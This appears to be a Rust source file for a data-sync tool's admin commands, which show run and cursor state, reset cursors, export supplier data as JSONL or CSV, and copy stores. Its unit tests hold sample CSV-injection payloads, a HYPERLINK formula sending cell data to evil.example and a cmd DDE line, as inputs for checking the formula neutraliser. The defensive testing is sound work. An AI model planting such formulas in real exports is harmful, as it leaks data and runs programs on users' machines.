//! Operators' views of the store — `state show|audit|reset`, `runs`,
//! `rejected`, `suppliers export` — on either engine. On SQLite they open the
//! file read-only (reset excepted), so they are safe beside a running job
//! (WAL readers never block the writer); on PostgreSQL they are ordinary
//! reads.

use crate::store::delta::{Reset, StreamFilter, list_audit, list_runs, list_states, reset_cursor};
use crate::store::postgres::PgPool;
use crate::store::schema::{open, open_read_only};
use crate::store::sql::{Conn, Row, params};
use crate::store::sqlite::SqliteConn;
use crate::store::{Db, OpenError, StoreError, StreamKey};
use serde::Serialize;
use serde_json::{Value, json};
use std::io::Write;

/// Why an admin command failed: an unusable database is bad input (exit 2).
#[derive(Debug, thiserror::Error)]
pub enum AdminError {
    #[error(transparent)]
    Open(#[from] OpenError),
    #[error("failed to read the database: {0}")]
    Query(String),
    #[error("failed to write the output: {0}")]
    Output(#[from] std::io::Error),
    #[error("failed to write CSV: {0}")]
    Csv(#[from] csv::Error),
    /// The operator asked for something the state does not allow (exit 2).
    #[error("{0}")]
    Refused(String),
}

impl From<StoreError> for AdminError {
    fn from(e: StoreError) -> Self {
        match e {
            StoreError::Database(e) => AdminError::Query(e),
            other => AdminError::Refused(other.to_string()),
        }
    }
}

/// Runs an admin command's reads (or, with `write`, its transaction) on a
/// connection to `db`: a SQLite file must already exist.
pub(crate) fn with_conn<T>(
    db: &Db,
    write: bool,
    body: impl AsyncFnOnce(&mut Conn) -> Result<T, AdminError>,
) -> Result<T, AdminError> {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .map_err(AdminError::Output)?;
    runtime.block_on(async {
        let mut conn = match db {
            Db::Sqlite(path) => {
                let conn = open_read_only(path)?;
                let conn = if write {
                    drop(conn);
                    open(path)?
                } else {
                    conn
                };
                Conn::Sqlite(SqliteConn::new(conn))
            }
            Db::Postgres(url) => {
                let pool = PgPool::open(url).await?;
                Conn::Postgres(pool.conn().await?)
            }
            // The API has no list of streams, runs or rejected rows: its ledger does.
            Db::Nuntiq(_) => {
                return Err(AdminError::Refused(format!(
                    "{db} keeps the cursors; run history, rejected rows, the audit and leases are in the \
                     ledger beside it: pass --db with the ledger's path or URL (run-plugin's --ledger, \
                     nuntiq.db by default)"
                )));
            }
        };
        body(&mut conn).await
    })
}

impl AdminError {
    pub fn is_broken_pipe(&self) -> bool {
        let io = match self {
            AdminError::Output(e) => Some(e),
            AdminError::Csv(e) => match e.kind() {
                csv::ErrorKind::Io(e) => Some(e),
                _ => None,
            },
            _ => None,
        };
        io.is_some_and(|e| e.kind() == std::io::ErrorKind::BrokenPipe)
    }
}

/// `state show`: the platform's DeltaStreamState fields per stream, and who
/// holds a running stream's lease.
pub fn state_show(db: &Db, filter: &StreamFilter, as_json: bool, out: &mut dyn Write) -> Result<(), AdminError> {
    let rows = with_conn(db, false, async |c: &mut Conn| Ok(list_states(c, filter).await?))?;
    if as_json {
        return write_json(out, &rows);
    }
    if rows.is_empty() {
        writeln!(out, "No delta-state rows match.")?;
    }
    for row in &rows {
        let s = &row.state;
        writeln!(
            out,
            "{}/{} (customer {})",
            esc(&s.connector_name),
            esc(&s.stream_name),
            esc(&row.customer_number)
        )?;
        writeln!(out, "  status             {}", s.status.as_str())?;
        if let Some(run_id) = &row.lease.run_id {
            writeln!(
                out,
                "  running as         run {}, process {} on {}, lease until {}",
                esc(run_id),
                row.lease.owner_pid.unwrap_or(0),
                dash(&row.lease.owner_host),
                dash(&row.lease.lease_expires_at_utc)
            )?;
        }
        writeln!(
            out,
            "  cursor             {} ({})",
            dash(&s.committed_cursor_value),
            s.cursor_type.map_or("-", |t| t.as_str())
        )?;
        writeln!(out, "  committed at       {}", dash(&s.committed_at_utc))?;
        writeln!(out, "  started at         {}", dash(&s.started_at_utc))?;
        writeln!(out, "  completed at       {}", dash(&s.completed_at_utc))?;
        writeln!(
            out,
            "  records processed  {}",
            s.records_processed.map_or_else(|| "-".into(), |n| n.to_string())
        )?;
        if let Some(summary) = &s.error_summary {
            writeln!(out, "  error summary      {}", esc(summary))?;
        }
        if let Some(metadata) = &s.metadata {
            writeln!(out, "  metadata           {}", esc(&metadata.to_string()))?;
        }
        writeln!(
            out,
            "  updated            {} by {}",
            dash(&s.updated_at_utc),
            dash(&s.updated_by)
        )?;
    }
    Ok(())
}

/// An optional field as text for a terminal, "-" when absent.
pub(crate) fn dash(value: &Option<String>) -> String {
    value.as_deref().map_or_else(|| "-".into(), esc)
}

/// Text for a terminal: connector-written values (cursors, summaries,
/// metadata, names) may hold line breaks that forge fields and escapes that
/// drive the operator's terminal, so control and bidi characters and the
/// backslash are written as escapes. JSON output stays exact.
pub fn esc(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if crate::log::is_unprintable(c) => {
                out.push_str(&format!("\\u{{{:x}}}", c as u32));
            }
            c => out.push(c),
        }
    }
    out
}

pub(crate) fn write_json<T: Serialize>(out: &mut dyn Write, value: &T) -> Result<(), AdminError> {
    serde_json::to_writer_pretty(&mut *out, value).map_err(std::io::Error::from)?;
    writeln!(out)?;
    Ok(())
}

/// `state audit`: cursor_advance and cursor_reset events, newest first.
pub fn state_audit(
    db: &Db,
    filter: &StreamFilter,
    limit: usize,
    as_json: bool,
    out: &mut dyn Write,
) -> Result<(), AdminError> {
    let events = with_conn(db, false, async |c: &mut Conn| Ok(list_audit(c, filter, limit).await?))?;
    if as_json {
        return write_json(out, &events);
    }
    for e in &events {
        write!(
            out,
            "{}  {:<14} {}/{} (customer {})  {} -> {}  by {}",
            esc(&e.created_at_utc),
            esc(&e.event_type),
            esc(&e.connector_name),
            esc(&e.stream_name),
            esc(&e.customer_number),
            dash(&e.old_cursor_value),
            dash(&e.new_cursor_value),
            dash(&e.api_user)
        )?;
        match &e.reason {
            Some(reason) => writeln!(out, "  reason: {}", esc(reason))?,
            None => writeln!(out)?,
        }
    }
    Ok(())
}

/// `rejected`: rows connectors set aside, the most recently seen first.
pub fn rejected(
    db: &Db,
    filter: &StreamFilter,
    limit: usize,
    as_json: bool,
    out: &mut dyn Write,
) -> Result<(), AdminError> {
    let rows = with_conn(db, false, async |c: &mut Conn| {
        Ok(crate::store::rejected::list_rejected(c, filter, limit).await?)
    })?;
    if as_json {
        return write_json(out, &rows);
    }
    if rows.is_empty() {
        writeln!(out, "No rejected rows match.")?;
    }
    for r in &rows {
        writeln!(
            out,
            "{}/{} (customer {})  seen {} time(s), last {} in run {}",
            esc(&r.connector_name),
            esc(&r.stream_name),
            esc(&r.customer_number),
            r.times,
            esc(&r.last_rejected_at),
            esc(&r.last_run_id)
        )?;
        writeln!(out, "  reason  {}", esc(&r.reason))?;
        writeln!(out, "  row     {}", esc(&r.row))?;
    }
    Ok(())
}

/// `runs`: run history, newest first.
pub fn runs(
    db: &Db,
    filter: &StreamFilter,
    limit: usize,
    as_json: bool,
    out: &mut dyn Write,
) -> Result<(), AdminError> {
    let runs = with_conn(db, false, async |c: &mut Conn| Ok(list_runs(c, filter, limit).await?))?;
    if as_json {
        return write_json(out, &runs);
    }
    for r in &runs {
        writeln!(
            out,
            "{} {}/{} (customer {})  {}",
            esc(&r.run_id),
            esc(&r.connector_name),
            esc(&r.stream_name),
            esc(&r.customer_number),
            esc(&r.status)
        )?;
        if let Some(job) = &r.job_name {
            writeln!(out, "  job {}  slot {}", esc(job), dash(&r.slot_at))?;
        }
        writeln!(
            out,
            "  started {}  ended {}",
            esc(&r.started_at_utc),
            dash(&r.ended_at_utc)
        )?;
        let n = |v: Option<i64>| v.map_or_else(|| "-".into(), |n| n.to_string());
        writeln!(
            out,
            "  records {}  cursor {} -> {}",
            n(r.records_processed),
            dash(&r.cursor_before),
            dash(&r.cursor_after)
        )?;
        if r.suppliers_inserted.is_some() {
            writeln!(
                out,
                "  suppliers {} inserted, {} updated, {} unchanged",
                n(r.suppliers_inserted),
                n(r.suppliers_updated),
                n(r.suppliers_unchanged)
            )?;
        }
        if let Some(u) = &r.usage {
            writeln!(
                out,
                "  used {} ms wall, {} ms CPU, {} ms store, {} KiB peak memory; {} HTTP requests ({} retries, {} KiB in); {} records written",
                u.wall_ms,
                u.cpu_ms,
                u.store_ms,
                u.peak_memory_bytes / 1024,
                u.http_requests,
                u.http_retries,
                u.http_bytes_in / 1024,
                u.records_written
            )?;
        }
        writeln!(
            out,
            "  process {} on {}  plugin sha256 {}",
            r.owner_pid.unwrap_or(0),
            dash(&r.owner_host),
            dash(&r.plugin_sha256)
        )?;
        if let Some(trace_id) = &r.trace_id {
            writeln!(out, "  trace {}", esc(trace_id))?;
        }
        if let Some(m) = &r.plugin {
            // The plugin's own words: escaped like every connector-written value.
            let field = |v: &Option<String>| esc(v.as_deref().unwrap_or("-"));
            writeln!(
                out,
                "  plugin {} {} by {}  source {}",
                field(&m.name),
                field(&m.version),
                field(&m.authors),
                field(&m.source)
            )?;
        }
        match (&r.error_kind, &r.error_summary) {
            (Some(kind), e) => writeln!(out, "  error ({}): {}", esc(kind), dash(e))?,
            (None, Some(e)) => writeln!(out, "  error: {}", esc(e))?,
            (None, None) => {}
        }
    }
    Ok(())
}

/// `slots`: the slots `serve` ran or recorded, newest first: how each ended
/// (`succeeded`, a failure kind, `missed`, `skipped`, `lease_expired`), or
/// `running`.
pub fn slots(
    db: &Db,
    job: Option<&str>,
    outcome: Option<&str>,
    limit: usize,
    as_json: bool,
    out: &mut dyn Write,
) -> Result<(), AdminError> {
    let slots = with_conn(db, false, async |c: &mut Conn| {
        Ok(crate::store::schedule::list(c, job, outcome, limit).await?)
    })?;
    if as_json {
        let rows: Vec<Value> = slots
            .iter()
            .map(|s| {
                let mut row = serde_json::to_value(s).unwrap_or_default();
                row["result"] = s.result().into();
                row
            })
            .collect();
        return write_json(out, &rows);
    }
    for s in &slots {
        writeln!(
            out,
            "{} {}  {}  process {} on {}  claimed {}  ended {}{}",
            esc(&s.slot_at),
            esc(&s.job_name),
            esc(s.result()),
            s.pid,
            esc(&s.host),
            esc(&s.claimed_at),
            dash(&s.ended_at),
            if s.takeovers > 0 {
                format!("  taken over {} times", s.takeovers)
            } else {
                String::new()
            }
        )?;
    }
    Ok(())
}

/// `state reset`: the stream named by connector and stream (and customer, when
/// more than one has it) gets `reset.new_cursor_value`, audited.
pub fn state_reset(
    db: &Db,
    customer: Option<String>,
    connector: String,
    stream: String,
    reset: &Reset,
    out: &mut dyn Write,
) -> Result<(), AdminError> {
    let (key, old) = with_conn(db, true, async |conn: &mut Conn| {
        let key = match customer {
            Some(customer_number) => StreamKey {
                customer_number,
                connector_name: connector,
                stream_name: stream,
            },
            None => {
                let filter = StreamFilter {
                    customer_number: None,
                    connector_name: Some(connector.clone()),
                    stream_name: Some(stream.clone()),
                };
                let rows = list_states(conn, &filter).await?;
                match rows.as_slice() {
                    [row] => StreamKey {
                        customer_number: row.customer_number.clone(),
                        connector_name: connector,
                        stream_name: stream,
                    },
                    [] => {
                        return Err(AdminError::Refused(format!(
                            "no stream {connector}/{stream} in {db}; pass --customer to create one"
                        )));
                    }
                    many => {
                        let customers: Vec<&str> = many.iter().map(|r| r.customer_number.as_str()).collect();
                        return Err(AdminError::Refused(format!(
                            "stream {connector}/{stream} exists for customers {}; pass --customer",
                            customers.join(", ")
                        )));
                    }
                }
            }
        };
        let old = reset_cursor(conn, &key, reset).await?;
        Ok((key, old))
    })?;
    writeln!(
        out,
        "Reset {}: cursor {} -> {} (status idle). Reason: {}",
        esc(&key.to_string()),
        dash(&old),
        esc(&reset.new_cursor_value),
        esc(&reset.reason)
    )?;
    Ok(())
}

/// A CSV cell as a spreadsheet may safely open it: text that starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return would be run as a formula
/// (`=HYPERLINK(…)` leaks data, `=cmd|…` runs programs), so it gets a `'`
/// before it, as OWASP recommends against CSV injection. JSON lines stay exact.
pub fn neutralise_formula(cell: &str) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell.to_owned()
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum ExportFormat {
    /// One JSON object per supplier, locations and addresses nested.
    Jsonl,
    /// One row per address (or per location, or per supplier without either);
    /// a cell a spreadsheet would run as a formula starts with `'`.
    Csv,
}

const SUPPLIER_FIELDS: [&str; 12] = [
    "customer_number",
    "supplier_number",
    "organization_code",
    "supplier_name",
    "alternative_supplier_name",
    "supplier_type",
    "is_active",
    "custom_field_1",
    "custom_field_2",
    "custom_field_3",
    "custom_field_4",
    "custom_field_5",
];
const LOCATION_FIELDS: [&str; 14] = [
    "location_code",
    "location_name",
    "organization_code",
    "default_currency_code",
    "default_payment_term_code",
    "default_payment_method",
    "taxpayer_id",
    "duns_number",
    "is_active",
    "custom_field_1",
    "custom_field_2",
    "custom_field_3",
    "custom_field_4",
    "custom_field_5",
];
const ADDRESS_FIELDS: [&str; 8] = [
    "street",
    "city",
    "state",
    "postal_code",
    "country_code",
    "custom_field_1",
    "custom_field_2",
    "custom_field_3",
];

/// Reads the named columns of one row, from column `offset` on, as JSON
/// values (`is_active` as a boolean).
fn row_object(r: &Row, fields: &[&str], offset: usize) -> serde_json::Map<String, Value> {
    let mut obj = serde_json::Map::new();
    for (i, name) in fields.iter().enumerate() {
        let value = if *name == "is_active" {
            json!(r.int(offset + i) != 0)
        } else {
            r.opt_text(offset + i).map_or(Value::Null, Value::String)
        };
        obj.insert((*name).to_owned(), value);
    }
    obj
}

/// Suppliers read per page, with their locations and addresses.
const EXPORT_PAGE: i64 = 1000;

/// Each supplier with its locations and their addresses, in a stable order
/// (customer, supplier number, organization code; location code; position):
/// a page of suppliers at a time, then that page's locations and addresses in
/// one ordered read each, merged here — three statements a page, whatever
/// the engine.
async fn for_each_supplier(
    conn: &mut Conn,
    customer: Option<&str>,
    mut visit: impl FnMut(Value) -> Result<(), AdminError>,
) -> Result<(), AdminError> {
    let suppliers_sql = format!(
        "SELECT {} FROM supplier
         WHERE (CAST(?4 AS TEXT) IS NULL OR customer_number = ?4)
           AND (customer_number, supplier_number, organization_code) > (?1, ?2, ?3)
         ORDER BY customer_number, supplier_number, organization_code LIMIT ?5",
        SUPPLIER_FIELDS.join(", ")
    );
    let range = "(customer_number, supplier_number, supplier_organization_code) >= (?1, ?2, ?3)
           AND (customer_number, supplier_number, supplier_organization_code) <= (?4, ?5, ?6)";
    let locations_sql = format!(
        "SELECT customer_number, supplier_number, supplier_organization_code, {} FROM supplier_location
         WHERE {range}
         ORDER BY customer_number, supplier_number, supplier_organization_code, location_code",
        LOCATION_FIELDS.join(", ")
    );
    let addresses_sql = format!(
        "SELECT customer_number, supplier_number, supplier_organization_code, location_code, {} FROM supplier_address
         WHERE {range}
         ORDER BY customer_number, supplier_number, supplier_organization_code, location_code, position",
        ADDRESS_FIELDS.join(", ")
    );
    let mut after = [String::new(), String::new(), String::new()];
    loop {
        let page = conn
            .query(
                &suppliers_sql,
                params![&after[0], &after[1], &after[2], customer, EXPORT_PAGE],
            )
            .await?;
        let (Some(first), Some(last)) = (page.first(), page.last()) else {
            return Ok(());
        };
        let key = |r: &Row| [r.text(0), r.text(1), r.text(2)];
        let (lo, hi) = (key(first), key(last));
        let bounds = params![&lo[0], &lo[1], &lo[2], &hi[0], &hi[1], &hi[2]];
        let locations = conn.query(&locations_sql, bounds).await?;
        let addresses = conn.query(&addresses_sql, bounds).await?;
        let (mut l, mut a) = (0, 0);
        for s in &page {
            let supplier_key = key(s);
            let mut supplier = row_object(s, &SUPPLIER_FIELDS, 0);
            let mut nested = Vec::new();
            while l < locations.len() && key(&locations[l]) == supplier_key {
                let row = &locations[l];
                let code = row.text(3);
                let mut location = row_object(row, &LOCATION_FIELDS, 3);
                let mut addrs = Vec::new();
                // Addresses of locations the store has no row for are not shown (none exist).
                while a < addresses.len()
                    && (key(&addresses[a]), addresses[a].text(3)) < (supplier_key.clone(), code.clone())
                {
                    a += 1;
                }
                while a < addresses.len() && key(&addresses[a]) == supplier_key && addresses[a].text(3) == code {
                    addrs.push(Value::Object(row_object(&addresses[a], &ADDRESS_FIELDS, 4)));
                    a += 1;
                }
                location.insert("addresses".into(), Value::Array(addrs));
                nested.push(Value::Object(location));
                l += 1;
            }
            supplier.insert("locations".into(), Value::Array(nested));
            visit(Value::Object(supplier))?;
        }
        after = hi;
    }
}

/// `suppliers export`: what the store holds.
pub fn suppliers_export(
    db: &Db,
    customer: Option<&str>,
    format: ExportFormat,
    out: &mut dyn Write,
) -> Result<(), AdminError> {
    match format {
        ExportFormat::Jsonl => with_conn(db, false, async |conn: &mut Conn| {
            for_each_supplier(conn, customer, |s| {
                serde_json::to_writer(&mut *out, &s).map_err(std::io::Error::from)?;
                writeln!(out)?;
                Ok(())
            })
            .await
        }),
        ExportFormat::Csv => {
            let mut csv = csv::Writer::from_writer(out);
            let header: Vec<String> = SUPPLIER_FIELDS
                .iter()
                .map(|f| f.to_string())
                .chain(
                    LOCATION_FIELDS
                        .iter()
                        .map(|f| format!("location_{}", f.trim_start_matches("location_"))),
                )
                .chain(ADDRESS_FIELDS.iter().map(|f| format!("address_{f}")))
                .collect();
            csv.write_record(&header)?;
            with_conn(db, false, async |conn: &mut Conn| {
                for_each_supplier(conn, customer, |s| {
                    let cells = |obj: &Value, fields: &[&str]| -> Vec<String> {
                        fields
                            .iter()
                            .map(|f| match &obj[*f] {
                                Value::Null => String::new(),
                                Value::String(s) => neutralise_formula(s),
                                other => other.to_string(),
                            })
                            .collect()
                    };
                    let supplier_cells = cells(&s, &SUPPLIER_FIELDS);
                    let no_location = vec![String::new(); LOCATION_FIELDS.len()];
                    let no_address = vec![String::new(); ADDRESS_FIELDS.len()];
                    let locations = s["locations"].as_array().cloned().unwrap_or_default();
                    if locations.is_empty() {
                        csv.write_record(supplier_cells.iter().chain(&no_location).chain(&no_address))?;
                    }
                    for l in &locations {
                        let location_cells = cells(l, &LOCATION_FIELDS);
                        let addresses = l["addresses"].as_array().cloned().unwrap_or_default();
                        if addresses.is_empty() {
                            csv.write_record(supplier_cells.iter().chain(&location_cells).chain(&no_address))?;
                        }
                        for a in &addresses {
                            csv.write_record(
                                supplier_cells
                                    .iter()
                                    .chain(&location_cells)
                                    .chain(&cells(a, &ADDRESS_FIELDS)),
                            )?;
                        }
                    }
                    Ok(())
                })
                .await
            })?;
            csv.flush()?;
            Ok(())
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{esc, neutralise_formula};

    #[test]
    fn csv_cells_a_spreadsheet_would_run_start_with_a_quote() {
        for formula in [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
            "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ] {
            assert_eq!(neutralise_formula(formula), format!("'{formula}"));
        }
        for text in ["Acme B.V.", "", " =not first", "A=B", "'quoted"] {
            assert_eq!(neutralise_formula(text), text);
        }
    }

    #[test]
    fn views_escape_what_could_forge_a_field_or_hide_a_character() {
        assert_eq!(esc("a\nstatus succeeded"), "a\\nstatus succeeded");
        assert_eq!(esc("\u{1b}[2J\u{7}"), "\\u{1b}[2J\\u{7}");
        assert_eq!(esc("tok\u{202e}dne"), "tok\\u{202e}dne");
        assert_eq!(esc("acme_eu\u{200b}"), "acme_eu\\u{200b}");
        assert_eq!(esc("back\\slash"), "back\\\\slash");
        assert_eq!(esc("Malmö 🙂"), "Malmö 🙂", "printable text stays");
    }
}

/// `store copy`: everything `from` holds into `to`, verified before it commits.
pub fn copy_store(
    from: &Db,
    to: &Db,
    force: bool,
    json: bool,
    out: &mut impl Write,
) -> Result<(), crate::store::copy::CopyError> {
    use crate::store::copy::{self, CopyError};
    if from == to
        || matches!((from, to), (Db::Sqlite(a), Db::Sqlite(b))
            if a.canonicalize().ok().is_some_and(|a| b.canonicalize().ok() == Some(a)))
    {
        return Err(CopyError::Refused(format!(
            "--from and --to are the same store ({from})"
        )));
    }
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .map_err(|e| CopyError::Failed(e.to_string()))?;
    let copied = runtime.block_on(async {
        let mut source = copy::open("--from", from, true).await?;
        let mut target = copy::open("--to", to, false).await?;
        copy::copy(&mut source, &mut target, force).await
    })?;
    let total: u64 = copied.tables.iter().map(|(_, n)| n).sum();
    let written = if json {
        let tables: serde_json::Map<String, Value> = copied.tables.iter().map(|(t, n)| (t.clone(), json!(n))).collect();
        writeln!(
            out,
            "{}",
            json!({"from": from.shown(), "to": to.shown(), "rows": total, "tables": tables, "digest": copied.digest})
        )
    } else {
        let tables: Vec<String> = copied.tables.iter().map(|(t, n)| format!("{t} {n}")).collect();
        writeln!(
            out,
            "copied {total} rows from {from} to {to}: {}; both stores' content digest is {}",
            tables.join(", "),
            copied.digest
        )
    };
    written.map_err(|e| {
        CopyError::Failed(format!(
            "the copy is committed, but its summary could not be written: {e}"
        ))
    })
}
